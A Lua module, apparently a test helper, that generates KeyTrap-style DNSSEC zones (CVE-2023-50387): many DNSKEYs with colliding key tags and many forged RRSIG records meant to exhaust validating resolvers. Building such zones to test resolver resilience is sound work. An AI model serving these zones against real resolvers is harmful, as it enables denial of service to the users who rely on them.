-- SPDX-License-Identifier: MIT
-- SPDX-FileCopyrightText: 2026 the mod_xmppdns founders
-- A zone in the style of KeyTrap (CVE-2023-50387): many keys of one key tag, and many signatures of which each could be by any of them.

local base64 = require "mime".b64;

local RSA_SHA256 = 8;
local EXPONENT = "\3\1\0\1"; -- 65537, its length before it

local keytrap = {};

-- RFC 4034, appendix B
local function key_tag(rdata)
	local sum = 0;
	for i = 1, #rdata, 2 do
		sum = sum + rdata:byte(i) * 256 + (rdata:byte(i + 1) or 0);
	end
	return (sum + math.floor(sum / 65536)) % 65536;
end

-- 256 bytes, the same for the same seed, with the highest bit set and odd: what a modulus of RSA looks like, and costs.
local function new_modulus(seed)
	local words = {};
	for i = 1, 128 do
		seed = seed * 16807 % 2147483647;
		words[i] = string.char(math.floor(seed / 256) % 256, seed % 256);
	end
	words[1], words[128] = "\193\35", "\69\103";
	return words;
end

-- Lines of DNSKEY records which all have the key tag that is given as well: two words that change places leave the sum.
function keytrap.keys(count)
	local lines, words, tag = {}, new_modulus(42), nil;
	for i = 1, count do
		words[i + 1], words[i + 2] = words[i + 2], words[i + 1];
		local key = EXPONENT .. table.concat(words);
		local this_tag = key_tag("\1\0\3" .. string.char(RSA_SHA256) .. key);
		assert(tag == nil or tag == this_tag);
		tag = this_tag;
		lines[i] = ("@ DNSKEY 256 3 %d %s"):format(RSA_SHA256, (base64(key)));
	end
	return table.concat(lines, "\n"), tag;
end

local RRSIG = "^(%S+%s+%d+%s+IN%s+RRSIG)%s+(%S+)%s+(%d+)%s+(%d+%s+%d+%s+%d+%s+%d+)%s+(%d+)%s+(%S+)";

-- For a zone's edit: instead of each signature over that type, so many that nobody made, of the algorithm and key tag given, or of its own.
function keytrap.forge(rdtype, count, algorithm, tag)
	return function (text)
		local lines = {};
		for line in text:gmatch("[^\n]+") do
			local head, covered, its_algorithm, middle, its_tag, signer = line:match(RRSIG);
			local is_forged = covered == rdtype;
			for i = 1, is_forged and count or 0 do
				local signature = base64(algorithm and table.concat(new_modulus(i)) or ("%064d"):format(i));
				lines[#lines + 1] = table.concat({ head, covered, algorithm or its_algorithm, middle, tag or its_tag, signer, signature }, " ");
			end
			if not is_forged then lines[#lines + 1] = line; end
		end
		return table.concat(lines, "\n") .. "\n";
	end
end

return keytrap;
